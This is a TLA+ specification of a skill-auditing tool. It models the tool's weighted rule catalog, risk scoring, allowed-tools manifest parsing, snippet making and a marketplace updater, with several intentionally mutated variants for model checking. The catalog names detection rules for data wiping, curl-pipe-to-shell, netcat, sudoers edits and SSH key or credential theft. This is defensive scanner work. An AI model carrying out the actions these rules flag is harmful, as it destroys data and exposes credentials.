---- MODULE Spec2Model ----
(***************************************************************************)
(* skill_auditor: rule catalog, pattern engine, scoring engine, JSON       *)
(* summary and the command-line driver, as state machines.                 *)
(*                                                                         *)
(*   SpecScore     the pure function calculate_score applied to findings   *)
(*                 lists built from the whole shipped catalog              *)
(*   SpecManifest  the pure function extract_allowed_tools applied to      *)
(*                 manifest texts written block by block                   *)
(*   SpecSnippet   the snippet scan_content makes of one line              *)
(*   SpecMarket    one call of update_marketplace of the skills updater    *)
(*   Spec          one run of main(): root check, discovery, per-skill     *)
(*                 audit, --min-level filter, report, exit code            *)
(*                                                                         *)
(* A text line is represented by the bag of catalog rules whose regular    *)
(* expression matches it, each with the number of its matches; this is all *)
(* scan_content reads from a line apart from the snippet text, and for the *)
(* snippet a line is a sequence of characters.  A manifest text is a       *)
(* sequence of symbols, see Key.                                           *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, Bags, TLC

VARIABLES
    findings,          \* SpecScore: the findings list handed to calculate_score
    score,             \* SpecScore: what calculate_score returned for it
    blocks,            \* SpecManifest: the blocks the manifest was written from
    content,           \* SpecManifest: the manifest text
    parsed,            \* SpecManifest: what extract_allowed_tools returned for it
    line,              \* SpecSnippet: the line scan_content is at
    snippet,           \* SpecSnippet: the snippet it made of the line
    env,               \* SpecMarket: what update_marketplace finds around it
    step,              \* SpecMarket: position in update_marketplace
    reinstalled,       \* SpecMarket: update_marketplace's `reinstalled`
    failed,            \* SpecMarket: update_marketplace's `failed`
    pending,           \* SpecMarket: the lines of the file .pending_installs
    returned,          \* SpecMarket: the UpdateResult returned, if any
    pc,                \* Spec: position in main()
    root_exists,       \* Spec: root_path.exists()
    tree,              \* Spec: the entries of the skills root, in iterdir order
    args,              \* Spec: parsed command line
    skills,            \* Spec: list returned by scan_skills_root
    results,           \* Spec: main's `results`
    filtered_results,  \* Spec: main's `filtered_results`
    stdout,            \* Spec: report printed on standard output, or NoReport
    outfile,           \* Spec: report written to args.output, or NoReport
    written,           \* Spec: the paths the run has opened for writing
    stderr,            \* Spec: messages printed on standard error
    exit_code          \* Spec: status the process ends with (0 unless it exits 1)

vars == <<findings, score, blocks, content, parsed, line, snippet, env, step,
          reinstalled, failed, pending, returned, pc,
          root_exists, tree,
          args, skills, results, filtered_results, stdout, outfile, written,
          stderr, exit_code>>

scoreVars == <<findings, score>>
manifestVars == <<blocks, content, parsed>>
snippetVars == <<line, snippet>>
marketVars == <<env, step, reinstalled, failed, pending, returned>>
mainVars == <<pc, root_exists, tree, args, skills, results, filtered_results,
              stdout, outfile, written, stderr, exit_code>>

----------------------------------------------------------------------------
(* Bounds *)

\* SpecScore: longest findings list
MaxFindings == 3
\* Spec: most entries directly under the skills root
MaxEntries == 2

----------------------------------------------------------------------------
(* Rule catalog, detectors/patterns.py *)

Rule(id, severity, weight, hard_trigger) ==
    [id |-> id, severity |-> severity, weight |-> weight,
     hard_trigger |-> hard_trigger]

PATTERN_RULES ==
    << Rule("RM_RF_ROOT",       "critical", 100, TRUE),
       Rule("RM_RF_HOME",       "critical",  90, TRUE),
       Rule("DD_WIPE",          "critical", 100, TRUE),
       Rule("MKFS_FORMAT",      "critical", 100, TRUE),
       Rule("CURL_PIPE_SH",     "critical",  90, TRUE),
       Rule("WGET_PIPE_SH",     "critical",  90, TRUE),
       Rule("BASE64_EXEC",      "critical",  85, TRUE),
       Rule("PY_EVAL",          "high",      70, FALSE),
       Rule("PY_EXEC",          "high",      70, FALSE),
       Rule("OS_SYSTEM",        "high",      65, FALSE),
       Rule("SUBPROCESS_SHELL", "high",      65, FALSE),
       Rule("CURL_POST",        "medium",    40, FALSE),
       Rule("NETCAT",           "high",      60, FALSE),
       Rule("PY_URLLIB",        "medium",    35, FALSE),
       Rule("SUDO",             "high",      60, FALSE),
       Rule("CHMOD_777",        "high",      55, FALSE),
       Rule("SUDOERS",          "critical",  95, TRUE),
       Rule("CRONTAB",          "high",      65, FALSE),
       Rule("SSH_KEYS",         "critical",  90, TRUE),
       Rule("PRIVATE_KEY",      "critical",  85, TRUE),
       Rule("API_KEY",          "high",      60, FALSE),
       Rule("PASSWORD",         "high",      55, FALSE),
       Rule("AWS_KEY",          "critical",  80, FALSE),
       Rule("GITHUB_TOKEN",     "critical",  80, FALSE) >>

\* The catalog with one weight mistyped (PY_URLLIB 35 -> 1).
get_all_patterns_LowWeight == [PATTERN_RULES EXCEPT ![14].weight = 1]

\* The catalog with a hard-triggered rule too light to reach the dangerous
\* threshold by its weight (BASE64_EXEC 85 -> 70).
get_all_patterns_LightTrigger == [PATTERN_RULES EXCEPT ![7].weight = 70]

get_all_patterns == PATTERN_RULES

\* Catalog positions
RuleIndex == 1..Len(get_all_patterns)

\* Position of the rule with this id
IndexOf(id) == CHOOSE k \in RuleIndex : get_all_patterns[k].id = id

----------------------------------------------------------------------------
(* Scoring engine, scoring.py *)

RiskLevel == <<"safe", "low", "medium", "high", "dangerous">>

RISK_THRESHOLDS == [low |-> 1, medium |-> 25, high |-> 50, dangerous |-> 75]

\* int(w * 0.5) for an int w >= 0: the product is exact in a double and
\* int() truncates toward zero.
IntHalf(w) == w \div 2

\* The halving dropped: weight kept whole.
EffectiveWeight_NoHalving(rule, ends_md, is_script) == rule.weight

\* scan_content, lines 82-84
EffectiveWeight(rule, ends_md, is_script) ==
    IF ends_md /\ ~is_script THEN IntHalf(rule.weight) ELSE rule.weight

\* scan_content, lines 91-101 (rule_name, category and snippet are not read
\* by the scoring engine, the filter or the summary and are left out)
Finding(rule, file_path, line_number, ends_md, is_script) ==
    [rule_id      |-> rule.id,
     severity     |-> rule.severity,
     file_path    |-> file_path,
     line_number  |-> line_number,
     weight       |-> EffectiveWeight(rule, ends_md, is_script),
     hard_trigger |-> rule.hard_trigger]

Max(a, b) == IF a >= b THEN a ELSE b
Min(a, b) == IF a <= b THEN a ELSE b

\* Decay only from the third occurrence on.
Contribution_LateDecay(fs, i) ==
    LET count == Cardinality({j \in 1..i : fs[j].rule_id = fs[i].rule_id})
    IN  IF count <= 2 THEN fs[i].weight ELSE IntHalf(fs[i].weight)

\* Only the first finding of the whole list at full weight.
Contribution_FirstInList(fs, i) ==
    IF i = 1 THEN fs[i].weight ELSE IntHalf(fs[i].weight)

\* calculate_score, lines 125-130: what the i-th finding adds to total;
\* count is rule_counts[f.rule_id] after the increment
Contribution(fs, i) ==
    LET count == Cardinality({j \in 1..i : fs[j].rule_id = fs[i].rule_id})
    IN  IF count = 1 THEN fs[i].weight ELSE IntHalf(fs[i].weight)

RECURSIVE DecayedSum(_, _)
\* calculate_score, lines 121-130: total after the first n findings
DecayedSum(fs, n) ==
    IF n = 0 THEN 0 ELSE DecayedSum(fs, n - 1) + Contribution(fs, n)

HARD_TRIGGER_FLOOR == 75
MAX_SCORE == 100

\* Thresholds compared with > where the code has >=.
LevelFor_Strict(total, has_hard_trigger) ==
    IF has_hard_trigger \/ total > RISK_THRESHOLDS.dangerous THEN "dangerous"
    ELSE IF total > RISK_THRESHOLDS.high THEN "high"
    ELSE IF total > RISK_THRESHOLDS.medium THEN "medium"
    ELSE IF total > RISK_THRESHOLDS.low THEN "low"
    ELSE "safe"

\* calculate_score, lines 139-149
LevelFor(total, has_hard_trigger) ==
    IF has_hard_trigger \/ total >= RISK_THRESHOLDS.dangerous THEN "dangerous"
    ELSE IF total >= RISK_THRESHOLDS.high THEN "high"
    ELSE IF total >= RISK_THRESHOLDS.medium THEN "medium"
    ELSE IF total >= RISK_THRESHOLDS.low THEN "low"
    ELSE "safe"

ScoreResult(total, level, hard) ==
    [total_score |-> total, risk_level |-> level, has_hard_trigger |-> hard]

\* The floor forgotten.
calculate_score_NoFloor(fs) ==
    IF fs = <<>> THEN ScoreResult(0, "safe", FALSE)
    ELSE LET hard  == \E i \in 1..Len(fs) : fs[i].hard_trigger
             total == Min(DecayedSum(fs, Len(fs)), MAX_SCORE)
         IN  ScoreResult(total, LevelFor(total, hard), hard)

\* The ceiling forgotten.
calculate_score_NoClamp(fs) ==
    IF fs = <<>> THEN ScoreResult(0, "safe", FALSE)
    ELSE LET hard  == \E i \in 1..Len(fs) : fs[i].hard_trigger
             summed == DecayedSum(fs, Len(fs))
             total == IF hard THEN Max(summed, HARD_TRIGGER_FLOOR) ELSE summed
         IN  ScoreResult(total, LevelFor(total, hard), hard)

\* calculate_score
calculate_score(fs) ==
    IF fs = <<>> THEN ScoreResult(0, "safe", FALSE)
    ELSE LET hard    == \E i \in 1..Len(fs) : fs[i].hard_trigger
             summed  == DecayedSum(fs, Len(fs))
             floored == IF hard THEN Max(summed, HARD_TRIGGER_FLOOR) ELSE summed
             total   == Min(floored, MAX_SCORE)
         IN  ScoreResult(total, LevelFor(total, hard), hard)

----------------------------------------------------------------------------
(* Manifest parser, parsers/skill_md.py *)

\* A manifest text is a sequence of symbols: single characters, and as one
\* symbol each the key (any spelling matched by allowed[_-]?tools), the
\* identifiers of Words and a run of digits.
Key == "allowed-tools"
Backtick == "<backtick>"
Words == {"Read", "Write", "Bash", "Grep", "Glob", "name", "demo", "Usage"}

\* \s
IsSpace(c) == c \in {" ", "\n"}

RECURSIVE SkipSpace(_, _)
\* \s* from position i: the first position it does not take
SkipSpace(s, i) ==
    IF i <= Len(s) /\ IsSpace(s[i]) THEN SkipSpace(s, i + 1) ELSE i

RECURSIVE LineEnd(_, _)
\* .+ from position i: the position of the next newline, Len(s) + 1 at the end
LineEnd(s, i) ==
    IF i <= Len(s) /\ s[i] # "\n" THEN LineEnd(s, i + 1) ELSE i

\* allowed[_-]?tools\s*: at position i; the position behind the colon
AfterColon(s, i) == SkipSpace(s, i + 1) + 1
KeyColonAt(s, i) ==
    /\ i <= Len(s) /\ s[i] = Key
    /\ SkipSpace(s, i + 1) <= Len(s)
    /\ s[SkipSpace(s, i + 1)] = ":"

\* Line 44, tool_pattern on one symbol
ToolsOf(c) ==
    IF c = Key THEN <<"allowed", "tools">>
    ELSE IF c \in Words THEN <<c>> ELSE <<>>

RECURSIVE FindTools(_)
\* Line 45, tool_pattern.findall(raw); identifiers never stand side by side
FindTools(raw) ==
    IF raw = <<>> THEN <<>> ELSE ToolsOf(Head(raw)) \o FindTools(Tail(raw))

\* Lines 37-41, pattern1.search: the leftmost key with a colon; \s* behind
\* the colon runs over newlines too, and (.+?)$ is the rest of the line at
\* which it stops
Directive(s) ==
    LET at == {i \in 1..Len(s) : KeyColonAt(s, i)}
    IN  IF at = {} THEN [found |-> FALSE, raw |-> <<>>]
        ELSE LET i == CHOOSE j \in at : \A k \in at : j <= k
                 p == SkipSpace(s, AfterColon(s, i))
             IN  [found |-> TRUE, raw |-> SubSeq(s, p, LineEnd(s, p) - 1)]

\* ---
Fence(s, i) ==
    i + 2 <= Len(s) /\ s[i] = "-" /\ s[i + 1] = "-" /\ s[i + 2] = "-"

\* Lines 50-54, yaml_pattern: ^---\s*\n(.*?)\n--- at the start of the text
FrontMatter(s) ==
    IF ~Fence(s, 1) THEN [found |-> FALSE, yaml_content |-> <<>>]
    ELSE LET w    == SkipSpace(s, 4)
             E(k) == {e \in (k + 1)..Len(s) : s[e] = "\n" /\ Fence(s, e + 1)}
             K    == {k \in 4..(w - 1) : s[k] = "\n" /\ E(k) # {}}
         IN  IF K = {} THEN [found |-> FALSE, yaml_content |-> <<>>]
             ELSE LET k == CHOOSE x \in K : \A y \in K : y <= x
                      e == CHOOSE x \in E(k) : \A y \in E(k) : x <= y
                  IN  [found |-> TRUE, yaml_content |-> SubSeq(s, k + 1, e - 1)]

RECURSIVE Split(_, _)
\* str.split on one character
Split(t, c) ==
    LET at == {i \in 1..Len(t) : t[i] = c}
    IN  IF at = {} THEN <<t>>
        ELSE LET i == CHOOSE j \in at : \A k \in at : j <= k
             IN  <<SubSeq(t, 1, i - 1)>> \o Split(SubSeq(t, i + 1, Len(t)), c)

\* The characters str.strip() takes off a line
Blank == {" ", "\t"}

\* scan_content, lines 87-88: the longest line a snippet holds whole
SNIPPET_CHARS == 100

RECURSIVE Strip(_, _)
\* str.strip of the characters in cs
Strip(t, cs) ==
    IF t = <<>> THEN t
    ELSE IF Head(t) \in cs THEN Strip(Tail(t), cs)
    ELSE IF t[Len(t)] \in cs THEN Strip(SubSeq(t, 1, Len(t) - 1), cs)
    ELSE t

RECURSIVE Join(_)
\* The string a run of symbols spells
Join(t) == IF t = <<>> THEN "" ELSE Head(t) \o Join(Tail(t))

\* t.strip().strip(quotes)
Trimmed(t, quotes) == Join(Strip(Strip(t, {" ", "\n"}), quotes))

\* Lines 56-59: allowed[_-]?tools\s*:\s*\[([^\]]+)\] in the front matter
InlineList(y) ==
    LET Open(i)  == SkipSpace(y, AfterColon(y, i))
        Close(i) == {c \in (Open(i) + 2)..Len(y) :
                        /\ y[c] = "]"
                        /\ \A j \in (Open(i) + 1)..(c - 1) : y[j] # "]"}
        at == {i \in 1..Len(y) :
                  /\ KeyColonAt(y, i)
                  /\ Open(i) <= Len(y) /\ y[Open(i)] = "["
                  /\ Close(i) # {}}
    IN  IF at = {} THEN [found |-> FALSE, tools |-> <<>>]
        ELSE LET i == CHOOSE j \in at : \A k \in at : j <= k
                 c == CHOOSE x \in Close(i) : TRUE
                 parts == Split(SubSeq(y, Open(i) + 1, c - 1), ",")
             IN  [found |-> TRUE,
                  tools |-> [n \in 1..Len(parts) |->
                                Trimmed(parts[n], {"\"", "'"})]]

\* A list item with its bullet at b: the bullet, \s+, .+ ; items whose text
\* is nothing but blanks up to the end of the text are not written here
ItemAt(s, b) ==
    /\ b + 1 <= Len(s)
    /\ IsSpace(s[b + 1])
    /\ SkipSpace(s, b + 1) <= Len(s)
ItemText(s, b) ==
    SubSeq(s, SkipSpace(s, b + 1), LineEnd(s, SkipSpace(s, b + 1)) - 1)
ItemEnd(s, b) == LineEnd(s, SkipSpace(s, b + 1))

RECURSIVE BlockItems(_, _)
\* Lines 64-67, (?:\s+-\s+.+\n?)+ from position e on: the texts of the
\* items; an item takes the newline that ends it, so the next one needs a
\* blank of its own in front of its bullet
BlockItems(y, e) ==
    LET b == SkipSpace(y, e)
    IN  IF b > e /\ b <= Len(y) /\ y[b] = "-" /\ ItemAt(y, b)
        THEN <<ItemText(y, b)>> \o BlockItems(y, ItemEnd(y, b) + 1)
        ELSE <<>>

\* Lines 64-68: allowed[_-]?tools\s*:\s*\n((?:\s+-\s+.+\n?)+) in the front
\* matter; between the colon and the first bullet there must be a newline
\* and at least one blank behind it
BlockList(y) ==
    LET First(i) == SkipSpace(y, AfterColon(y, i))
        at == {i \in 1..Len(y) :
                  /\ KeyColonAt(y, i)
                  /\ \E k \in AfterColon(y, i)..(First(i) - 2) : y[k] = "\n"
                  /\ First(i) <= Len(y) /\ y[First(i)] = "-"
                  /\ ItemAt(y, First(i))}
    IN  IF at = {} THEN [found |-> FALSE, tools |-> <<>>]
        ELSE LET i == CHOOSE j \in at : \A k \in at : j <= k
                 items == BlockItems(y, First(i) - 1)
             IN  [found |-> TRUE,
                  tools |-> [n \in 1..Len(items) |->
                                Trimmed(items[n], {"\"", "'"})]]

RECURSIVE SectionItems(_, _)
\* Lines 74, 81, (?:[*-]\s+.+\n?)+ with the first bullet at b
SectionItems(s, b) ==
    IF b <= Len(s) /\ s[b] \in {"*", "-"} /\ ItemAt(s, b)
    THEN <<ItemText(s, b)>> \o SectionItems(s, ItemEnd(s, b) + 1)
    ELSE <<>>

\* Lines 73-82: #+\s*allowed[_-]?tools\s*\n((?:[*-]\s+.+\n?)+) anywhere
Section(s) ==
    LET Bullet(i) == SkipSpace(s, i + 1)
        at == {i \in 1..Len(s) :
                  /\ s[i] = Key
                  /\ \E h \in 1..(i - 1) :
                        s[h] = "#" /\ \A j \in (h + 1)..(i - 1) : IsSpace(s[j])
                  /\ Bullet(i) > i + 1 /\ s[Bullet(i) - 1] = "\n"
                  /\ SectionItems(s, Bullet(i)) # <<>>}
    IN  IF at = {} THEN [found |-> FALSE, tools |-> <<>>]
        ELSE LET i == CHOOSE j \in at : \A k \in at : j <= k
                 items == SectionItems(s, Bullet(i))
             IN  [found |-> TRUE,
                  tools |-> [n \in 1..Len(items) |->
                                Trimmed(items[n], {Backtick, "\"", "'"})]]

\* SkillMdInfo, without raw_section and error
SkillMdInfo(tools, success) ==
    [allowed_tools |-> tools, parse_success |-> success]

\* extract_allowed_tools
extract_allowed_tools(text) ==
    LET match1 == Directive(text)
        yaml   == FrontMatter(text)
    IN  IF match1.found /\ FindTools(match1.raw) # <<>>
        THEN SkillMdInfo(FindTools(match1.raw), TRUE)
        ELSE IF yaml.found /\ InlineList(yaml.yaml_content).found
        THEN SkillMdInfo(InlineList(yaml.yaml_content).tools, TRUE)
        ELSE IF yaml.found /\ BlockList(yaml.yaml_content).found
        THEN SkillMdInfo(BlockList(yaml.yaml_content).tools, TRUE)
        ELSE IF Section(text).found
        THEN SkillMdInfo(Section(text).tools, TRUE)
        ELSE SkillMdInfo(<<>>, FALSE)

----------------------------------------------------------------------------
(* SpecScore: calculate_score on findings lists over the whole catalog *)

NoReport == [kind |-> "none"]

\* The driver's variables, parked while SpecScore runs
MainIdle ==
    /\ pc = "idle"
    /\ root_exists = FALSE
    /\ tree = <<>>
    /\ args = [min_level |-> "safe", format |-> "terminal", output |-> "none"]
    /\ skills = <<>>
    /\ results = <<>>
    /\ filtered_results = <<>>
    /\ stdout = NoReport
    /\ outfile = NoReport
    /\ written = {}
    /\ stderr = <<>>
    /\ exit_code = 0

\* s with x put in front of position p (p = Len(s) + 1 appends)
InsertAt(s, p, x) ==
    SubSeq(s, 1, p - 1) \o <<x>> \o SubSeq(s, p, Len(s))

\* A finding as the pattern engine builds it for a match of catalog rule k:
\* in a script ("run.sh") or in a markdown document ("README.md")
EngineFinding(k, in_md) ==
    IF in_md
    THEN Finding(get_all_patterns[k], "README.md", 1, TRUE, FALSE)
    ELSE Finding(get_all_patterns[k], "run.sh", 1, FALSE, TRUE)

\* Two rules calculate_score cannot tell apart but by their ids, which it
\* only compares for equality
Interchangeable(j, k) ==
    /\ get_all_patterns[j].weight = get_all_patterns[k].weight
    /\ get_all_patterns[j].hard_trigger = get_all_patterns[k].hard_trigger
    /\ get_all_patterns[j].severity = get_all_patterns[k].severity

\* Of each group of interchangeable rules a list uses the catalog-first
\* ones: every list is such a list up to renaming rules within groups.
NextOfGroup(fs, k) ==
    \A j \in 1..(k - 1) :
        Interchangeable(j, k)
            => \E i \in 1..Len(fs) : fs[i].rule_id = get_all_patterns[j].id

\* The manifest parser's variables, parked while another specification runs
ManifestIdle ==
    /\ blocks = <<>>
    /\ content = <<>>
    /\ parsed = extract_allowed_tools(<<>>)

\* scan_content, lines 86-89: the snippet of a line, a line being the
\* sequence of its characters
Snippet(text) ==
    LET stripped == Strip(text, Blank)
    IN  IF Len(stripped) > SNIPPET_CHARS
        THEN SubSeq(stripped, 1, SNIPPET_CHARS) \o <<".", ".", ".">>
        ELSE stripped

\* No line taken yet
SnippetIdle ==
    /\ line = <<>>
    /\ snippet = Snippet(<<>>)

\* What a call of update_marketplace finds: whether the marketplace
\* directory exists, whether git or the reading of installed_plugins.json
\* raises, how many commits the clone is behind, whether git pull succeeds,
\* the installed skills of the marketplace, the skills for which
\* .pending_installs cannot be opened, the lines the file held before, and
\* the auto_install argument
Environment(dir_exists, raises, commits_behind, pull_ok, affected_skills, unwritable, pending_before, auto_install) ==
    [dir_exists |-> dir_exists, raises |-> raises,
     commits_behind |-> commits_behind, pull_ok |-> pull_ok,
     affected_skills |-> affected_skills, unwritable |-> unwritable,
     pending_before |-> pending_before, auto_install |-> auto_install]

\* update_marketplace not called
MarketIdle ==
    /\ env = Environment(FALSE, FALSE, 0, FALSE, <<>>, {}, <<>>, FALSE)
    /\ step = "idle"
    /\ reinstalled = <<>>
    /\ failed = <<>>
    /\ pending = <<>>
    /\ returned = <<>>

ScoreInit ==
    /\ findings = <<>>
    /\ score = calculate_score(<<>>)
    /\ ManifestIdle
    /\ SnippetIdle
    /\ MarketIdle
    /\ MainIdle

\* One more finding, anywhere in the list; the list is scored again
AddFinding ==
    /\ Len(findings) < MaxFindings
    /\ \E k \in RuleIndex, in_md \in BOOLEAN, p \in 1..(Len(findings) + 1) :
          /\ NextOfGroup(findings, k)
          /\ findings' = InsertAt(findings, p, EngineFinding(k, in_md))
          /\ score' = calculate_score(findings')
    /\ UNCHANGED <<manifestVars, snippetVars, marketVars, mainVars>>

ScoreNext == AddFinding

SpecScore == ScoreInit /\ [][ScoreNext]_vars

----------------------------------------------------------------------------
(* SpecManifest: extract_allowed_tools on manifest texts *)

MaxBlocks == 3

\* The token lists the manifests declare
ThreeTools == <<"Read", "Write", "Bash">>
TwoTools == <<"Grep", "Glob">>

RECURSIVE Listed3(_, _, _)
\* The tokens ts, each behind the symbols of before and followed by after
Listed3(ts, before, after) ==
    IF ts = <<>> THEN <<>>
    ELSE before \o <<Head(ts)>> \o after \o Listed3(Tail(ts), before, after)

\* Read, Write, Bash
CommaList(ts) ==
    <<Head(ts)>> \o Listed3(Tail(ts), <<",", " ">>, <<>>)

\* ---, name: demo, the lines of body, ---
InFrontMatter(body) ==
    <<"-", "-", "-", "\n", "name", ":", " ", "demo", "\n">> \o body
        \o <<"-", "-", "-", "\n">>

\* A block of a manifest [form, tools] as text
Render(b) ==
    CASE b.form = "prose" ->
            <<"Usage", " ", "demo", "\n">>
      [] b.form = "inline" ->                \* allowed-tools: Read, Write, Bash
            <<Key, ":", " ">> \o CommaList(b.tools) \o <<"\n">>
      [] b.form = "numeric" ->               \* allowed-tools: 123
            <<Key, ":", " ", "123", "\n">>
      [] b.form = "fm_plain" ->
            InFrontMatter(<<>>)
      [] b.form = "fm_inline" ->             \* allowed-tools: [Read, Write, Bash]
            InFrontMatter(<<Key, ":", " ", "[">> \o CommaList(b.tools)
                              \o <<"]", "\n">>)
      [] b.form = "fm_flow" ->               \* the same list, on a line of its own
            InFrontMatter(<<Key, ":", " ", "[", "\n", " ", " ">>
                              \o CommaList(b.tools) \o <<"\n", "]", "\n">>)
      [] b.form = "fm_block" ->              \* allowed-tools: and "  - Read" lines
            InFrontMatter(<<Key, ":", "\n">>
                              \o Listed3(b.tools, <<" ", " ", "-", " ">>, <<"\n">>))
      [] b.form = "section" ->               \* ## allowed-tools and "- Read" lines
            <<"#", "#", " ", Key, "\n">>
                \o Listed3(b.tools, <<"-", " ">>, <<"\n">>)
      [] b.form = "section_star" ->          \* # allowed-tools and "* Read" lines,
                                             \* the tokens in backticks
            <<"#", " ", Key, "\n", "\n">>
                \o Listed3(b.tools, <<"*", " ", Backtick>>, <<Backtick, "\n">>)

\* Blocks that stand at the start of a manifest only, and the others
FrontForms == {"fm_plain", "fm_inline", "fm_flow", "fm_block"}
DeclaringForms == {"inline", "fm_inline", "fm_flow", "fm_block", "section",
                   "section_star"}

Blocks ==
    { [form |-> f, tools |-> ts] :
        f \in DeclaringForms, ts \in {ThreeTools, TwoTools} }
    \cup { [form |-> f, tools |-> <<>>] : f \in {"prose", "numeric", "fm_plain"} }

ManifestInit ==
    /\ blocks = <<>>
    /\ content = <<>>
    /\ parsed = extract_allowed_tools(content)
    /\ findings = <<>>
    /\ score = calculate_score(<<>>)
    /\ SnippetIdle
    /\ MarketIdle
    /\ MainIdle

\* One more block at the end of the manifest; the text is parsed again
WriteBlock ==
    /\ Len(blocks) < MaxBlocks
    /\ \E b \in Blocks :
          /\ b.form \in FrontForms => blocks = <<>>
          /\ blocks' = Append(blocks, b)
          /\ content' = content \o Render(b)
          /\ parsed' = extract_allowed_tools(content')
    /\ UNCHANGED <<scoreVars, snippetVars, marketVars, mainVars>>

ManifestNext == WriteBlock

SpecManifest == ManifestInit /\ [][ManifestNext]_vars

----------------------------------------------------------------------------
(* SpecSnippet: the snippet scan_content makes of a line *)

\* The longest run of blanks at either end of a line
MaxBlank == 2
\* The most characters between them
MaxLine == 102

\* Runs of up to n blanks
Blanks(n) == UNION {[1..k -> Blank] : k \in 0..n}

\* The k-th character between the blanks: digits, with a space now and then
Glyph(k) ==
    IF k % 10 = 5 THEN " "
    ELSE <<"0", "1", "2", "3", "4", "5", "6", "7", "8", "9">>[(k % 10) + 1]

\* The lines: blanks, up to MaxLine characters, blanks
Lines ==
    {lead \o [k \in 1..n |-> Glyph(k)] \o trail :
        lead \in Blanks(MaxBlank), n \in 0..MaxLine, trail \in Blanks(MaxBlank)}

SnippetInit ==
    /\ SnippetIdle
    /\ MarketIdle
    /\ findings = <<>>
    /\ score = calculate_score(<<>>)
    /\ ManifestIdle
    /\ MainIdle

\* scan_content, lines 78-89: the loop takes the first line of a content,
\* which a rule matches, and makes its snippet
NextLine ==
    /\ line = <<>>
    /\ \E text \in Lines :
          /\ line' = text
          /\ snippet' = Snippet(text)
    /\ UNCHANGED <<scoreVars, manifestVars, marketVars, mainVars>>

SnippetNext == NextLine

SpecSnippet == SnippetInit /\ [][SnippetNext]_vars

----------------------------------------------------------------------------
(* SpecMarket: one call of update_marketplace,
   docs/skills-updater-main/scripts/update_marketplace.py *)

\* The most commits a clone is behind
MaxBehind == 2
\* The most installed skills of the marketplace
MaxAffected == 2

\* The marketplace_name argument
Marketplace == "official"

\* The names installed skills may have
SkillNames == {"pdf", "docx", "xlsx"}

\* get_affected_skills: the keys of a JSON object differ, so the names do
AffectedLists ==
    UNION { {a \in [1..n -> SkillNames] : \A i, j \in 1..n : i # j => a[i] # a[j]}
            : n \in 0..MaxAffected }

\* reinstall_skill, line 219
install_cmd(skill_name, marketplace_name) ==
    "/install " \o skill_name \o "@" \o marketplace_name

\* UpdateResult; the commits and the commit messages are left out, error is
\* "None" when unset
UpdateResult(updated, commits_behind, affected_skills, reinstalled_skills, failed_skills, error) ==
    [marketplace |-> Marketplace, updated |-> updated,
     commits_behind |-> commits_behind, affected_skills |-> affected_skills,
     reinstalled_skills |-> reinstalled_skills,
     failed_skills |-> failed_skills, error |-> error]

MarketInit ==
    /\ env \in { Environment(d, r, c, p, a, u, b, i) :
                    d \in BOOLEAN, r \in BOOLEAN, c \in 0..MaxBehind,
                    p \in BOOLEAN, a \in AffectedLists,
                    u \in SUBSET SkillNames,
                    b \in {<<>>, <<install_cmd("pptx", Marketplace)>>},
                    i \in BOOLEAN }
    /\ step = "start"
    /\ reinstalled = <<>>
    /\ failed = <<>>
    /\ pending = env.pending_before
    /\ returned = <<>>
    /\ findings = <<>>
    /\ score = calculate_score(<<>>)
    /\ ManifestIdle
    /\ SnippetIdle
    /\ MainIdle

\* update_marketplace, lines 250-263: get_marketplace_dir
LookUp ==
    /\ step = "start"
    /\ IF env.dir_exists
       THEN /\ step' = "check"
            /\ UNCHANGED returned
       ELSE /\ returned' = <<UpdateResult(FALSE, 0, <<>>, <<>>, <<>>,
                                          "Marketplace '" \o Marketplace
                                              \o "' not found")>>
            /\ step' = "returned"
    /\ UNCHANGED <<env, reinstalled, failed, pending>>
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, mainVars>>

\* update_marketplace, lines 269-285: git_fetch_and_check and
\* get_affected_skills, which may raise, and the return when there is
\* nothing to pull
FetchAndCheck ==
    /\ step = "check"
    /\ IF env.raises
       THEN /\ step' = "raised"
            /\ UNCHANGED returned
       ELSE IF env.commits_behind = 0
       THEN /\ returned' = <<UpdateResult(FALSE, 0, env.affected_skills,
                                          <<>>, <<>>, "None")>>
            /\ step' = "returned"
       ELSE /\ step' = "pull"
            /\ UNCHANGED returned
    /\ UNCHANGED <<env, reinstalled, failed, pending>>
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, mainVars>>

\* update_marketplace, lines 308-320: git_pull
Pull ==
    /\ step = "pull"
    /\ IF env.pull_ok
       THEN /\ step' = "reinstall"
            /\ UNCHANGED returned
       ELSE /\ returned' = <<UpdateResult(FALSE, env.commits_behind,
                                          env.affected_skills, <<>>, <<>>,
                                          "Git pull failed")>>
            /\ step' = "returned"
    /\ UNCHANGED <<env, reinstalled, failed, pending>>
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, mainVars>>

\* A skill listed as reinstalled whether or not its command was written.
Reinstall_AlwaysReinstalled ==
    /\ step = "reinstall"
    /\ env.auto_install
    /\ Len(reinstalled) + Len(failed) < Len(env.affected_skills)
    /\ LET skill == env.affected_skills[Len(reinstalled) + Len(failed) + 1]
       IN  /\ reinstalled' = Append(reinstalled, skill)
           /\ pending' = IF skill \in env.unwritable THEN pending
                         ELSE Append(pending, install_cmd(skill, Marketplace))
           /\ UNCHANGED failed
    /\ UNCHANGED <<env, step, returned>>
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, mainVars>>

\* update_marketplace, lines 329-343, and reinstall_skill, whose open of
\* .pending_installs may fail: one turn of the
\* loop over the affected skills
Reinstall ==
    /\ step = "reinstall"
    /\ env.auto_install
    /\ Len(reinstalled) + Len(failed) < Len(env.affected_skills)
    /\ LET skill == env.affected_skills[Len(reinstalled) + Len(failed) + 1]
       IN  IF skill \in env.unwritable
           THEN /\ failed' = Append(failed, skill)
                /\ UNCHANGED <<reinstalled, pending>>
           ELSE /\ pending' = Append(pending, install_cmd(skill, Marketplace))
                /\ reinstalled' = Append(reinstalled, skill)
                /\ UNCHANGED failed
    /\ UNCHANGED <<env, step, returned>>
    /\ UNCHANGED <<scoreVars, manifestVars, snippetVars, mainVars>>

\* update_marketplace, lines 329 and 349-359: the loop skipped or over
ReturnUpdated ==
    /\ step = "reinstall"
    /\ \/ ~env.auto_install
       \/ Len(reinstalled) + Len(failed) = Len(env.affected_skills)
    /\ returned' = <<UpdateResult(TRUE, env.commits_behind, env.affected_skills,
                                  reinstalled, failed, "None")>>
    /\ step' = "returned"
    /\ UNCHANGED <<env, reinstalled, failed, pending>>
